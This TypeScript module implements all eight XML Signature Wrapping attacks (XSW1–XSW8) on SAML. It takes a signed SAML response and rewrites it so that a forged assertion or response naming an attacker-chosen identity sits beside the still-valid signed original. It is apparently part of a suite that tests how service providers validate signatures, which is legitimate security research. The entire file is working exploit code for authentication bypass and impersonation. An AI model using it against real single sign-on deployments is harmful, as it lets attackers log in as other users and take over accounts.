// XML signature wrapping, XSW1–XSW8 after Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be" (2012),
// in the shapes SAML Raider builds: the signed original stays in the document (so the signature still verifies)
// while a forged copy sits where a careless SP reads its values from.
import { DOMParser, XMLSerializer } from '@xmldom/xmldom';
import { NS } from '../util/xml.ts';

export type XswVariant = 1 | 2 | 3 | 4 | 5 | 6 | 7 | 8;
export const XSW_VARIANTS: readonly XswVariant[] = [1, 2, 3, 4, 5, 6, 7, 8];

/** What each variant does, as the suites and the differential table name it. */
export const XSW_TITLES: Record<XswVariant, string> = {
  1: 'XSW1: forged Response, the signed original inside its Signature',
  2: 'XSW2: forged Response, the signed original before its Signature',
  3: 'XSW3: forged Assertion inserted before the signed one',
  4: 'XSW4: forged Assertion wrapping the signed one',
  5: 'XSW5: forged Assertion carrying the original Signature, the original appended after it',
  6: 'XSW6: forged Assertion carrying the original Signature, the original inside that Signature',
  7: 'XSW7: forged Assertion, the signed original hidden in an Extensions element',
  8: 'XSW8: forged Assertion carrying the original Signature, the original inside its ds:Object',
};

/** Which signature the variant starts from: XSW1/2 wrap a signed Response, XSW3–8 a signed Assertion. */
export function xswSigning(variant: XswVariant): 'response' | 'assertion' {
  return variant <= 2 ? 'response' : 'assertion';
}

const elements = (el: Element | Document, ns: string, name: string): Element[] => Array.from(el.getElementsByTagNameNS(ns, name) as unknown as ArrayLike<Element>);

function directSignature(el: Element): Element | null {
  for (let n = el.firstChild; n; n = n.nextSibling) if (n.nodeType === 1 && (n as Element).localName === 'Signature' && (n as Element).namespaceURI === NS.ds) return n as Element;
  return null;
}

function stripSignature(el: Element): Element {
  const sig = directSignature(el);
  if (sig) el.removeChild(sig);
  return el;
}

/** Replaces the text of every NameID and AttributeValue equal to `from` with `to` (the attacker's identity). */
function forge(el: Element, from: string, to: string): void {
  for (const n of [...elements(el, NS.saml, 'NameID'), ...elements(el, NS.saml, 'AttributeValue')]) {
    if ((n.textContent ?? '').trim() === from) n.textContent = to;
  }
}

/** Wraps a signed response (signed as `xswSigning(variant)` says) so that a forged copy names `forgedNameId`. */
export function wrapSignature(signedXml: string, variant: XswVariant, userNameId: string, forgedNameId: string): string {
  const doc = new DOMParser().parseFromString(signedXml, 'text/xml') as unknown as Document;
  const response = doc.documentElement;
  const assertion = elements(doc, NS.saml, 'Assertion')[0];
  if (!assertion) throw new Error('The response has no Assertion to wrap.');
  const sigOf = (el: Element): Element => {
    const sig = directSignature(el);
    if (!sig) throw new Error(`XSW${variant} needs a signature on the ${el.localName}.`);
    return sig;
  };
  switch (variant) {
    case 1: {
      // Forged Response; the signed original inside its Signature.
      const original = response.cloneNode(true) as Element;
      stripSignature(response);
      forge(response, userNameId, forgedNameId);
      response.setAttribute('ID', '_forged_response');
      const sig = sigOf(original).cloneNode(true) as Element;
      response.insertBefore(sig, response.firstChild?.nextSibling ?? null);
      stripSignature(original);
      sig.appendChild(original);
      break;
    }
    case 2: {
      // Forged Response; the signed original before its Signature (detached).
      const original = response.cloneNode(true) as Element;
      const sig = sigOf(response);
      forge(response, userNameId, forgedNameId);
      response.setAttribute('ID', '_forged_response');
      stripSignature(original);
      response.insertBefore(original, sig);
      break;
    }
    case 3: {
      // Forged Assertion inserted before the signed one.
      const forged = stripSignature(assertion.cloneNode(true) as Element);
      forge(forged, userNameId, forgedNameId);
      forged.setAttribute('ID', '_forged_assertion');
      response.insertBefore(forged, assertion);
      break;
    }
    case 4: {
      // Forged Assertion wrapping the signed one.
      const forged = stripSignature(assertion.cloneNode(true) as Element);
      forge(forged, userNameId, forgedNameId);
      forged.setAttribute('ID', '_forged_assertion');
      response.replaceChild(forged, assertion);
      forged.appendChild(assertion);
      break;
    }
    case 5: {
      // Forged Assertion carrying the original Signature; the original (unsigned) appended after it.
      const forged = assertion.cloneNode(true) as Element;
      forge(forged, userNameId, forgedNameId);
      response.replaceChild(forged, assertion);
      response.appendChild(stripSignature(assertion));
      break;
    }
    case 6: {
      // Forged Assertion carrying the original Signature; the original inside that Signature.
      const forged = assertion.cloneNode(true) as Element;
      forge(forged, userNameId, forgedNameId);
      response.replaceChild(forged, assertion);
      sigOf(forged).appendChild(stripSignature(assertion));
      break;
    }
    case 7: {
      // Forged Assertion; the signed original hidden in an Extensions element.
      const forged = stripSignature(assertion.cloneNode(true) as Element);
      forge(forged, userNameId, forgedNameId);
      const extensions = doc.createElementNS(NS.samlp, 'samlp:Extensions');
      response.replaceChild(forged, assertion);
      response.insertBefore(extensions, forged);
      extensions.appendChild(assertion);
      break;
    }
    case 8: {
      // Forged Assertion carrying the original Signature; the original inside its ds:Object.
      const forged = assertion.cloneNode(true) as Element;
      forge(forged, userNameId, forgedNameId);
      response.replaceChild(forged, assertion);
      const object = doc.createElementNS(NS.ds, 'ds:Object');
      sigOf(forged).appendChild(object);
      object.appendChild(stripSignature(assertion));
      break;
    }
  }
  return new XMLSerializer().serializeToString(doc as unknown as Node);
}
